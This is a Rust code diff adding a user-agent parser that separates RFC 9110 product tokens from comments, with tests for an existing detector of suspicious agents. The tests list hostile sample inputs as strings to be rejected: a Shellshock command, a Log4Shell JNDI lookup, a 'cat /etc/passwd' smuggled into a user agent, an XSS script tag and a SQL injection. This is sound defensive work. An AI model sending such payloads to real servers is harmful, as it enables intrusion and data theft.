@@ -159,6 +159,65 @@ pub fn suspicious(user_agent: &str) -> Option<&'static str> {
     })
 }
 
+/// Bytes of a product name or version in a user agent (RFC 9110 `token`, without the
+/// characters shells and SQL give meaning to).
+fn product_byte(c: u8) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_' | b'+' | b'~' | b'!' | b'#' | b'*')
+}
+
+/// The comments of a user agent that is made of product tokens and comments only
+/// (`product[/version] *( product / "(" comment ")" )`, RFC 9110 §10.1.5), or `None` when it is
+/// not: client tools (`curl/8.5.0`, `python-requests/2.32.3`, `Go-http-client/1.1`) and browsers
+/// name products, which are never an injection; only what their comments say can be.
+pub fn product_comments(user_agent: &str) -> Option<Vec<&str>> {
+    let ua = user_agent.get(..MAX_AGENT_BYTES.min(user_agent.len()))?;
+    let b = ua.as_bytes();
+    let mut comments = Vec::new();
+    let mut i = 0;
+    let mut products = 0;
+    while i < b.len() {
+        match b[i] {
+            b' ' => i += 1,
+            b'(' => {
+                let start = i + 1;
+                let mut depth = 0usize;
+                loop {
+                    match b.get(i)? {
+                        b'(' => depth += 1,
+                        b')' => depth -= 1,
+                        c if c.is_ascii_control() => return None,
+                        _ => {}
+                    }
+                    i += 1;
+                    if depth == 0 {
+                        break;
+                    }
+                }
+                comments.push(&ua[start..i - 1]);
+            }
+            _ => {
+                let name = b[i..].iter().take_while(|c| product_byte(**c)).count();
+                if name == 0 {
+                    return None;
+                }
+                i += name;
+                if b.get(i) == Some(&b'/') {
+                    let version = b[i + 1..].iter().take_while(|c| product_byte(**c)).count();
+                    if version == 0 {
+                        return None;
+                    }
+                    i += 1 + version;
+                }
+                if !matches!(b.get(i), None | Some(b' ' | b'(')) {
+                    return None;
+                }
+                products += 1;
+            }
+        }
+    }
+    (products > 0).then_some(comments)
+}
+
 /// The plain definition [`suspicious`] must agree with (lower-case, then search each needle).
 #[cfg(test)]
 fn suspicious_reference(user_agent: &str) -> Option<usize> {
@@ -215,6 +274,32 @@ mod tests {
         // Priority: a payload wins over a scanner name, earlier needles over later ones.
         assert_eq!(suspicious("sqlmap ${jndi:x}"), Some("payload:jndi"));
         assert_eq!(suspicious("NUCLEI and SQLMAP"), Some("scanner:sqlmap"));
+    }
+
+    #[test]
+    fn product_tokens() {
+        assert_eq!(product_comments("curl/8.5.0"), Some(vec![]));
+        assert_eq!(
+            product_comments("Apache-HttpClient/4.5.14 (Java/17.0.2)"),
+            Some(vec!["Java/17.0.2"])
+        );
+        assert_eq!(
+            product_comments(
+                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
+            ),
+            Some(vec!["Windows NT 10.0; Win64; x64", "KHTML, like Gecko"])
+        );
+        for not_products in [
+            "() { :; }; /bin/bash -c id",
+            "${jndi:ldap://x.example/a}",
+            "curl/8.5.0; cat /etc/passwd",
+            "<script>alert(1)</script>",
+            "' or 1=1--",
+            "(unclosed",
+            "",
+        ] {
+            assert_eq!(product_comments(not_products), None, "{not_products:?}");
+        }
     }
 
     proptest::proptest! {
